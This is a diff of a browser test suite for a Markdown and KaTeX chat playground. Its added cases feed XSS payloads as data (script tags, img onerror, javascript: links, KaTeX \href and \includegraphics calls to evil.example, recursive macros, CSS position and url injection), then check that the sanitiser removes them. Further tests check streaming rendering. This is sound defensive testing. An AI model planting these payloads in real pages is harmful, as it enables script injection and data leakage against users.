@@ -24,7 +24,7 @@ function findUnreadable(page: Page): Promise<string[]> {
 }
 
 describeInBrowser()('the playground', () => {
-  const { visit, bench } = openPlayground();
+  const { visit, bench, demo } = openPlayground();
 
   it('shows Markdown', async () => {
     const { app, upstream } = await bench();
@@ -47,6 +47,11 @@ describeInBrowser()('the playground', () => {
       '<form action="https://evil.example"><button autofocus>Key?</button><input name="key"></form>',
       '[click](javascript:document.title="hacked") [data](data:text/html,x) [mail](mailto:a@b.c) [web](https://w.example/)',
       '<a href="//evil.example" target="_self">relative</a>',
+      '$\\href{javascript:alert(1)}{x}$ $\\htmlData{slot=1}{x}$ $\\htmlStyle{background:url(//evil.example)}{x}$ $\\includegraphics{https://evil.example/m.png}$',
+      '$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\text{<img src=x onerror=alert(1)>}$ $\\url{https://evil.example/u}$',
+      '```"><img src=x onerror=alert(1)>\n<script>document.title = "hacked"</script>\n```',
+      '```html\n<script>document.title = "hacked"</script><img src=x onerror="document.title=1">\n```',
+      '<div data-slot="x:0" data-css="position:fixed" class="hljs-keyword">slot</div>',
     ].join('\n\n');
     upstream.next(scriptStream(evil));
     const { page, requests, errors } = await visit(app.url);
@@ -54,7 +59,30 @@ describeInBrowser()('the playground', () => {
     await ended(page);
     const said = lane(page, 'answer').locator('> .said');
 
-    const html = await said.innerHTML();
+    await said.locator('.hljs-tag').first().waitFor();
+    await said.locator('.katex').first().waitFor();
+    expect(await said.locator('code').allInnerTexts()).toEqual([
+      '<script>document.title = "hacked"</script>',
+      '<script>document.title = "hacked"</script><img src=x onerror="document.title=1">',
+    ]);
+    const sizes = await said
+      .locator('[style]')
+      .evaluateAll((all) => all.map((each) => each.getAttribute('style') ?? ''));
+    expect(sizes.filter((style) => /url|position|fixed/.test(style))).toEqual([]);
+    expect(
+      sizes
+        .flatMap((style) => [...style.matchAll(/([\d.]+)em/g)].map(([, size]) => Number(size)))
+        .filter((size) => size > 25),
+    ).toEqual([]);
+    // What KaTeX draws apart, and buttons that copy code.
+    const html = await said.evaluate((each) => {
+      const copy = each.cloneNode(true) as unknown as {
+        querySelectorAll(all: string): Iterable<{ remove(): void }>;
+        innerHTML: string;
+      };
+      for (const own of copy.querySelectorAll('.katex, .copy-code')) own.remove();
+      return copy.innerHTML;
+    });
     expect(html).not.toMatch(
       /<(script|iframe|form|button|input|style|svg|img)|onerror|onload|javascript:|data:text|srcset|style=/i,
     );
@@ -183,6 +211,101 @@ describeInBrowser()('the playground', () => {
       '[...document.fonts].filter((font) => font.status === "loaded").map((font) => font.family).join()',
     );
     expect(font).toContain('KaTeX_Main');
+  });
+
+  it('never shows the marks of what is half written, and in the end shows the same as if all had come at once', async () => {
+    const { url } = await demo();
+    const { page } = await visit(url);
+    const texts = [
+      'Some **bold** and *other* words, `code` and a [link](https://a.example/x).\n\n- one **two**\n  - `three`\n\nText\n' +
+        '| a | b |\n|:--|--:|\n| 1 | `x` |\n| 2 | **y** |\n\nafter\n\n```ts\nconst a = 1;\n// `x`\n```\n\nThe **end of _all_**',
+      'So $a_1$ and \\(x^2\\).\n\n$$\n\\frac{a}{b}\n$$\n\n- item\n  \\[\n  z\n  \\]\n\nFor $5 and $10.\n',
+      '> said **b**\n> more\n\nHeading\n===\n\n<details>\n<summary>More</summary>\n\ninside\n\n</details>\n\nSee [here][r], and <b>x</b>.\n\n' +
+        'One\n\nTwo\n\nThree\n\n[r]: https://r.example/\n\n1. a\n\n2. b\n\n~~~\n    x\n~~~\n',
+    ];
+    const seen: { isSame: boolean; marks: string[]; back: string[] }[] = await page.evaluate(
+      `Promise.all([import('/playground/js/markdown.js'), import('/playground/vendor/highlight.js')]).then(async ([{ MarkdownView }]) => {
+        const settle = () => new Promise((resolve) => setTimeout(resolve, 200));
+        const warm = new MarkdownView();
+        warm.show('$x$\\n\\n\`\`\`ts\\nlet a;\\n\`\`\`', false);
+        for (let tries = 0; tries < 50 && !warm.element.querySelector('.katex, .hljs-keyword'); tries++) await settle();
+        await settle();
+        return Promise.all(${JSON.stringify(texts)}.map(async (text) => {
+          const [once, grown] = [new MarkdownView(), new MarkdownView()];
+          document.body.append(once.element, grown.element);
+          once.show(text, false);
+          const marks = [];
+          const back = [];
+          const counts = {};
+          for (let length = 1; length <= text.length; length++) {
+            grown.show(text.slice(0, length), true);
+            const bare = grown.element.cloneNode(true);
+            for (const maths of bare.querySelectorAll('.maths')) maths.remove();
+            if (/\`\`|\\*\\*|\\|:?-|~~|\\]\\(|\\$\\$|<b>/.test(bare.innerText)) marks.push(text.slice(0, length));
+            for (const tag of ['table', 'pre', 'li', 'strong', '.maths']) {
+              const count = grown.element.querySelectorAll(tag).length;
+              if (count < (counts[tag] ?? 0)) back.push(tag + ' after ' + text.slice(0, length));
+              counts[tag] = count;
+            }
+          }
+          grown.show(text, false);
+          await settle();
+          return { isSame: grown.element.innerHTML === once.element.innerHTML, marks, back };
+        }));
+      })`,
+    );
+    expect(seen).toEqual(texts.map(() => ({ isSame: true, marks: [], back: [] })));
+  });
+
+  it.each([
+    [
+      'sections',
+      (at: number) =>
+        `## Part ${at}\n\nSome **words** and $x_{${at}}$.\n\n- one\n- two\n\n| a | b |\n|---|--:|\n| ${at} | 2 |\n\n\`\`\`ts\nconst a = ${at};\n\`\`\`\n\n`,
+    ],
+    ['one list', (at: number) => `${at + 1}. Some **words** in an item\n`],
+    ['one table', (at: number) => `${at === 0 ? '| a | b |\n|---|--:|\n' : ''}| row ${at} | **words** |\n`],
+    ['one paragraph', (at: number) => `Some **words** that go on, ${at} `],
+    ['code', (at: number) => `${at === 0 ? '```ts\n' : ''}const value${at}: string = "some text"; // ${at}\n`],
+  ])('draws what is complete of a long answer only once: %s', async (name, make) => {
+    const size = name === 'sections' ? 50_000 : 200_000;
+    let text = '';
+    for (let at = 0; text.length < size; at++) text += make(at);
+    text += 'END';
+    const { url } = await demo();
+    const { page } = await visit(url);
+    const { drawn, gone, isSame } = await page.evaluate<{ drawn: number; gone: number; isSame: boolean }>(
+      `import('/playground/js/markdown.js').then(async ({ MarkdownView }) => {
+        const text = ${JSON.stringify(text)};
+        const [view, once] = [new MarkdownView(), new MarkdownView()];
+        const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+        once.show('$x$\\n\\n\`\`\`ts\\nlet a;\\n\`\`\`', false);
+        while (!once.element.querySelector('.katex') || !once.element.querySelector('.hljs-keyword')) await wait(50);
+        document.getElementById('turns').append(view.element);
+        let drawn = 0;
+        let gone = 0;
+        new MutationObserver((records) => {
+          for (const { addedNodes, removedNodes } of records) {
+            for (const node of addedNodes) drawn += node.textContent.length;
+            for (const node of removedNodes) gone = Math.max(gone, node.textContent.length);
+          }
+        }).observe(view.element, { childList: true, subtree: true });
+        for (let length = 0; length < text.length; length += 2_000) {
+          view.show(text.slice(0, length), true);
+          await Promise.resolve();
+        }
+        view.show(text, false);
+        once.show(text, false);
+        const read = () => [view, once].map(({ element }) => element.textContent.replace(/\\s/g, ''));
+        const isSame = () => read()[0] === read()[1] && read()[0].endsWith('END');
+        for (let tries = 0; tries < 100 && !isSame(); tries++) await wait(100);
+        return { drawn, gone, isSame: isSame() };
+      })`,
+    );
+    expect(isSame).toBe(true);
+    // What is at the end is drawn again when it grows; all of it each time would be ten million characters.
+    expect(drawn).toBeLessThan(10 * text.length);
+    expect(gone).toBeLessThan(20_000);
   });
 
   it.each([
